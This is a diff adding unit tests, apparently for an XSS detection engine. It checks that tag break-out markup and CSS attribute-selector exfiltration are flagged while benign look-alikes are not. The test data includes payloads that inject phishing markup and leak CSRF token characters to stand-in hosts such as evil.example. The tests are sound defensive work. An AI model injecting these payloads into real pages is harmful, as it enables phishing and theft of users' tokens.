@@ -278,3 +278,40 @@ describe('page-structure markup', () => {
     expect(xssIds(value)).not.toContain(200140);
   });
 });
+
+describe('markup after a break-out of the tag it lands in', () => {
+  it.each(['"><b>x</b>', "'/><h1>Account suspended</h1>", '"><a href=https://attacker.example/>Click</a>', 'x" ><marquee>hi</marquee>'])(
+    '%s alerts at level 1',
+    (value) => {
+      expect(xssIds(value)).toContain(200142);
+      expect(alertsAt(1, value)).toBe(true);
+    },
+  );
+
+  it.each([
+    ['rich text opening its own tags first', '<p class="intro"><b>Hello</b> world</p>'],
+    ['a quoted measure before a comparison', 'a 5" screen > 4" one'],
+    ['markup after a quote with no tag end before it', 'He said "hi" <b>twice</b>'],
+    ['a JSON document holding a fragment', '{"html":"\\"><b>x</b>"}'],
+  ])('%s does not', (_what, value) => {
+    expect(xssIds(value)).not.toContain(200142);
+  });
+});
+
+describe('CSS exfiltration of a field by its first characters', () => {
+  it.each([
+    '<style>input[name=csrf][value^=a]{background:url(//evil.example/a)}</style>',
+    'input[name="token"][value^="7f"] { background-image: url("https://x.example/?t=7f") }',
+    '<style>[value$=z]{list-style:url(//e.example/z)}</style>',
+  ])('%s alerts at level 1', (value) => {
+    expect(xssIds(value)).toContain(200143);
+    expect(alertsAt(1, value)).toBe(true);
+  });
+
+  it.each(['input[value="1"]{background:url(/check.png)}', '<style>a[href^="https"]{background:url(/ext.svg)}</style>', 'option[value^=a]{color:red}'])(
+    '%s does not',
+    (value) => {
+      expect(xssIds(value)).not.toContain(200143);
+    },
+  );
+});
